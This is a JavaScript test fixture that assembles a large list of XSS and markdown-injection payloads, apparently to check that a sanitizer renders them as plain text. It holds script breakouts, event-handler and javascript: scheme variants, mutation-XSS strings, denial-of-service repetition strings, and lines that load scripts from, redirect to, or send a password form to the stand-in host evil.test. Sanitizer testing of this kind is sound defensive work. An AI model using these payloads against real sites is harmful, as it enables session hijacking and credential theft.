import payloads from './xss-payloads.json'

/** Call whose spellings in user input must all remain plain text. */
const CALL = 'attack()'

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onpointerenter',
]
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'iframe',
  'math',
]
const SCHEMES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A&#x61&#x76&#x61script:${CALL}`,
  `\\x6Aavascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==',
  `vbscript:${CALL}`,
  `//evil.test/${CALL}`,
  '/\\evil.test',
  'https:\\\\evil.test',
  'blob:https://evil.test/1',
  'file:///etc/passwd',
]

const handlers = TAGS.flatMap((tag) => HANDLERS.map((name) => `<${tag} ${name}=${CALL}>`))

const links = SCHEMES.flatMap((address) => [
  `[press here](${address})`,
  `[press here](<${address}>)`,
  `<${address}>`,
  `![picture](${address})`,
  `[press][1]\n\n[1]: ${address}`,
])

const elements = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `"><script>${CALL}</script>`,
  `'-${CALL}-'`,
  `</script><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template>`,
  `<form action="https://evil.test"><input name=password></form>`,
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<style>*{background:url(https://evil.test)}</style>',
  '<!-- unclosed',
  '<![CDATA[<script>attack()</script>]]>',
  '<?xml version="1.0"?>',
  `<svg><g/onload=${CALL}//<p>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<a href="javascript:${CALL}" style="position:fixed;inset:0">x</a>`,
  `<img srcset="x 1x, y 2x" onerror=${CALL}>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  '<form id=documentElement><input name=body></form>',
  `\`\`\`"><script>${CALL}</script>\nfoo\n\`\`\``,
  `\`<script>${CALL}</script>\``,
  `> <img src=x onerror=${CALL}>`,
  `- <svg onload=${CALL}>`,
  `1. [x](javascript:${CALL} "title")`,
  `**<img src=x onerror=${CALL}>**`,
  `https://evil.test/"onmouseover="${CALL}`,
  `https://evil.test/<script>${CALL}</script>`,
  '{{constructor.constructor("attack()")()}}',
  '${attack()}',
  '<b>'.repeat(2_000),
  '> '.repeat(500),
  '['.repeat(3_000),
  '*a '.repeat(3_000),
  `\u202etxt.exe <script>${CALL}</script>`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `\ufeff<script>${CALL}</script>`,
]

export const HOSTILE: readonly string[] = [...handlers, ...links, ...elements, ...payloads]
